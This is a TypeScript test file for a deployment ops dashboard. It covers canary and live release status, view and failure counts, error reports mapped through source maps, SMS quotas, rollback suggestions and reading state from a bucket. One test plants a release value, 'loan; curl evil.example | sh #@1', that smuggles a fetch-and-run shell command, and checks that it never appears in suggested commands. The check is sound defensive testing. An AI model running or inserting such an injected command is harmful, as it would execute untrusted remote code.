import { randomUUID } from 'node:crypto'
import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'

import { type BucketAddress, openBucket } from '@pahiram/bucket'
import type { OpsSituation } from '@pahiram/contract'
import fastify, { type FastifyInstance } from 'fastify'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'

import { type Database, openDatabase } from '../../platform/database/database.ts'
import { countUse } from '../../platform/database/rate-count.ts'
import { serveReport } from '../release-reports/serve-report.ts'
import { ViewCounts } from '../../platform/monitoring/view-counts.ts'
import { readSmsSettings } from '../../platform/sms/sms-sender.ts'
import { prepareStaff, serveStaff } from '../../platform/staff/serve-staff.ts'
import { figuresOf } from '../../testing/declared.ts'
import { startBucketServer } from '../../testing/bucket-server.ts'
import { callStaff, rawRequest } from '../../testing/caller.ts'
import { temporaryFolder } from '../../testing/temporary-folder.ts'
import { testStorage } from '../../testing/test-database.ts'
import { deploymentsOf, type PublishedSetting, readPublished, readPublishedSetting } from './published.ts'
import { serveOps } from './serve-ops.ts'

const live = '0123456789ab'
const canary = 'ba9876543210'

/** One change, as `pnpm release` writes it. */
function change(action: string, deployId: string, at: string) {
  return {
    at,
    who: 'Ana',
    why: 'clearer dates',
    action,
    deployId,
    releaseId: 'fedcba987654',
    version: '0.1.0',
    commit: 'c',
  }
}

const state = JSON.stringify({
  format: 1,
  app: 'loan',
  live,
  previous: null,
  canary: { deployId: canary, share: 5 },
  closed: [
    { page: 'order', at: '2026-11-22T02:30:00Z', who: 'Ben', why: 'wrong dates' },
    { page: 'loan-confirm', feature: 'calendar', at: '2026-11-22T02:40:00Z', who: 'Ben', why: '' },
  ],
  history: [
    change('publish', 'abcdef012345', '2026-11-20T01:00:00Z'),
    // With another configuration: pages of it were closed.
    change('configure', live, '2026-11-21T01:00:00Z'),
    change('canary', canary, '2026-11-22T02:00:00Z'),
  ],
})

const now = new Date('2026-11-22T03:20:00Z')
const folder = temporaryFolder()
let database: Database
let app: FastifyInstance
let origin = ''

beforeAll(async () => {
  database = await openDatabase({ ...(await testStorage('migrated')), onLost: (why) => expect.unreachable(why) })
  await mkdir(join(folder, 'state'))
  await writeFile(join(folder, 'state/loan.json'), state)
  // Column 42 of line 1 is line 7 of a source.
  await mkdir(join(folder, 'loan/97956d7271fb/maps'), { recursive: true })
  await writeFile(
    join(folder, 'loan/97956d7271fb/maps/order-1a2b.js.map'),
    JSON.stringify({
      version: 3,
      sources: ['../../../../apps/loan/src/pages/order/order-model.ts'],
      names: ['planOf'],
      mappings: 'yCAMEA',
    }),
  )
})
afterAll(async () => {
  await app.close()
  await database.close()
})

/** Serves staff and reports of a server that has this target. */
async function serve(published: PublishedSetting | undefined): Promise<string> {
  app = fastify({ forceCloseConnections: true })

  const counts = new ViewCounts(database, { now: () => now })
  const sms = readSmsSettings({ PAHIRAM_SMS_PER_HOUR: '2', PAHIRAM_SMS_PER_DAY: '100' })
  const staff = prepareStaff(database, {
    token: 'the-staff-token',
    mode: 'sandbox',
    now: () => now,
    log: () => undefined,
  })

  serveReport(app, database, counts)
  await serveStaff(app, staff, async (scope) =>
    serveOps(scope, {
      database,
      counts,
      published,
      releases: folder,
      sms,
      figures: figuresOf(database),
      now: () => now,
    }),
  )
  return app.listen({ host: '127.0.0.1', port: 0 })
}

async function report(body: object): Promise<void> {
  const headers = { 'content-type': 'application/json' }

  expect((await rawRequest(origin, '/__report', { method: 'POST', headers, body: JSON.stringify(body) })).status).toBe(
    204,
  )
}

test('what is published is counted when strangers have filled the hour with what they invent', async () => {
  let time = now
  const counts = new ViewCounts(database, { now: () => time })
  const view = { page: '/order', kind: 'failed' } as const
  const read = vi.fn(async () => (await readPublished({ name: folder, place: { folder } })).flatMap(deploymentsOf))

  counts.alwaysCount(read)
  for (let invented = 0; invented < 5_200; invented += 1) {
    const release = `loan@${invented.toString(16).padStart(12, '0')}`

    counts.add({ ...view, release }, `192.0.2.${Math.floor(invented / 400)}`)
  }
  counts.add({ ...view, release: 'loan@ffffffffffff' })
  await counts.write()
  await vi.waitFor(async () => {
    counts.add({ ...view, release: `loan@${canary}` })
    expect(await counts.rates({ hours: 1, deployments: [canary, 'ffffffffffff'] })).toMatchObject([
      { deployment: canary },
    ])
  }, 20_000)

  // The disk with the target is away for a while: its folder is empty.
  const [before] = await counts.rates({ hours: 1, deployments: [canary] })

  read.mockResolvedValue([])
  time = new Date(now.getTime() + 10_000)
  counts.add({ ...view, release: 'loan@ffffffffffff' })
  await vi.waitFor(() => expect(read).toHaveResolvedTimes(2))
  counts.add({ ...view, release: `loan@${canary}` })
  expect((await counts.rates({ hours: 1, deployments: [canary] }))[0]?.failed).toBe((before?.failed ?? 0) + 1)
  await database.query.deleteFrom('release_views').execute()
})

test('whoever is on call sees what is live where, how it does, what broke, what SMS is left, and what to do', async () => {
  origin = await serve(readPublishedSetting({ PAHIRAM_TARGET: folder }))
  for (let count = 0; count < 60; count += 1) {
    await report({ page: '/order', kind: count < 54 ? 'ready' : 'failed', release: `loan@${canary}` })
  }
  await report({ page: '/order', kind: 'ready', release: `loan@${live}`, ms: 900 })
  for (const line of [12, 13]) {
    await report({
      page: '/order',
      kind: 'render',
      message: `line ${line}`,
      reference: `AB${line}`,
      release: `loan@${canary}`,
      stack: 'a@/assets/loan/order-1a2b.js:1:42',
    })
  }
  await countUse(database.query, 'sms of the hour', 3_600_000, now)

  const { http, data } = await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')

  expect(http).toBe(200)
  expect(data).toEqual({
    at: now.toISOString(),
    apps: [
      {
        app: 'loan',
        live: {
          id: live,
          version: '0.1.0',
          release: 'fedcba987654',
          since: '2026-11-21T01:00:00Z',
          who: 'Ana',
          why: 'clearer dates',
        },
        canary: {
          id: canary,
          version: '0.1.0',
          release: 'fedcba987654',
          since: '2026-11-22T02:00:00Z',
          who: 'Ana',
          why: 'clearer dates',
        },
        share: 5,
        closed: [
          { page: 'order', since: '2026-11-22T02:30:00Z', who: 'Ben', why: 'wrong dates' },
          { page: 'loan-confirm', feature: 'calendar', since: '2026-11-22T02:40:00Z', who: 'Ben', why: '' },
        ],
        deployments: [
          {
            id: live,
            views: 1,
            failed: 0,
            rejected: 0,
            medianMs: 900,
          },
          {
            id: canary,
            views: 60,
            failed: 6,
            rejected: 0,
          },
        ],
      },
    ],
    errors: [
      {
        app: 'loan',
        page: '/order',
        message: expect.stringMatching(/^line 1[23]$/),
        place: 'planOf (apps/loan/src/pages/order/order-model.ts:7:3)',
        count: 2,
        last: expect.stringMatching(/Z$/),
        reference: expect.stringMatching(/^AB1[23]$/),
        engines: ['other'],
        shells: ['no shell'],
      },
    ],
    sms: [
      { time: 'hour', used: 1, most: 2 },
      { time: 'day', used: 0, most: 100 },
    ],
    outbox: { waiting: 0, oldestSeconds: 0 },
    money: { unappliedCount: 0, unapplied: '0.00', oddReports: 0 },
    findings: [
      expect.objectContaining({
        level: 'urgent',
        command: `pnpm release rollback loan --to ${folder} --why "views fail"`,
      }),
      ...['take /order out of “closed”', 'take “calendar” out of “switchedOff”'].map((todo) =>
        expect.objectContaining({
          level: 'soon',
          todo: expect.stringContaining(todo),
          command: `pnpm release publish loan --configuration-only --to ${folder} --config /etc/pahiram/brand.json`,
        }),
      ),
    ],
  })
  expect(await callStaff(origin, '/staff/ops', undefined, 'another-token')).toMatchObject({ http: 401, data: null })

  // Counted above; a server that does not know the target shows what was viewed most.
  await app.close()
  origin = await serve(undefined)
  expect((await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')).data).toMatchObject({
    apps: [
      {
        app: 'loan',
        deployments: [
          { id: canary, views: 60 },
          { id: live, views: 1 },
        ],
      },
    ],
    findings: [
      { what: expect.stringMatching(/^loan: 10.0 % of 60/) },
      { what: 'This server does not know what is published.' },
    ],
  })
})

test('views of what is not on the target are invented: they are not shown, and nobody is asked to roll back', async () => {
  await app.close()
  origin = await serve(readPublishedSetting({ PAHIRAM_TARGET: folder }))
  for (const release of [`complaint@${live}`, 'complaint@ffffffffffff', 'loan@ffffffffffff']) {
    for (let count = 0; count < 60; count += 1) await report({ page: '/order', kind: 'failed', release })
  }

  const { data } = await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')
  const { apps, findings } = data as OpsSituation

  expect(apps.map((one) => one.app)).toEqual(['loan'])
  expect(JSON.stringify([apps, findings])).not.toMatch(/ffffffffffff|complaint/)

  // Nothing was ever published.
  await app.close()
  origin = await serve(readPublishedSetting({ PAHIRAM_TARGET: join(folder, 'none') }))
  expect(await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')).toMatchObject({
    http: 200,
    data: { apps: [], findings: [{ what: `Nothing is published to ${join(folder, 'none')}.` }] },
  })
})

test('what a report that is kept names as its deployment is part of no command, unless it is one', async () => {
  const kept = {
    page: '/order',
    kind: 'render',
    message: 'x',
    reference: '',
    // No file has such a line.
    stack: 'a@/assets/loan/order-1a2b.js:0:42',
    engine: '',
    shell: '',
  } as const
  // The last is no app, of which the command knows nothing.
  const releases = ['loan; curl evil.example | sh #@1', 'evil@0123456789ab']

  await database.query
    .insertInto('error_reports')
    .values(Array.from({ length: 20 }, (_, at) => ({ ...kept, id: randomUUID(), release: releases[at % 2] ?? '' })))
    .execute()

  const { data } = await callStaff(origin, '/staff/ops', undefined, 'the-staff-token')

  expect((data as OpsSituation).findings).toContainEqual(
    expect.objectContaining({ what: '20 reports in a day from /order: x' }),
  )
  expect(JSON.stringify(data)).not.toContain('evil')
})

test('what is published to a bucket is read there, and a bucket that is not there is an error', async () => {
  const { PAHIRAM_PICTURES, ...environment } = await startBucketServer()
  const setting = readPublishedSetting({ ...environment, PAHIRAM_TARGET: PAHIRAM_PICTURES }) as PublishedSetting
  const { bucket: address } = setting.place as { bucket: BucketAddress }
  const bucket = openBucket(address, 1)

  expect(await readPublished(setting)).toEqual([])
  await bucket.send(bucket.pathOf('state/loan.json'), { method: 'PUT', content: Buffer.from(state) })
  expect(await readPublished(setting)).toMatchObject([{ app: 'loan', live, canary: { share: 5 } }])
  await expect(
    readPublished({ name: 's3://nobodys', place: { bucket: { ...address, bucket: 'nobodys' } } }),
  ).rejects.toThrow('HTTP 404 NoSuchBucket')

  // What `pnpm release` publishes to is read there.
  const { AWS_ENDPOINT_URL_S3: AWS_ENDPOINT_URL, AWS_REGION: AWS_DEFAULT_REGION, ...keys } = environment
  const alike = { ...keys, AWS_ENDPOINT_URL, AWS_DEFAULT_REGION, PAHIRAM_TARGET: 's3://pictures//complaints' }

  expect(readPublishedSetting(alike)?.place).toEqual({
    bucket: { ...address, region: AWS_DEFAULT_REGION ?? address.region },
  })
  expect(() => readPublishedSetting({ PAHIRAM_TARGET: 'S3://pages' })).toThrow('it looks like s3://bucket/prefix')
})
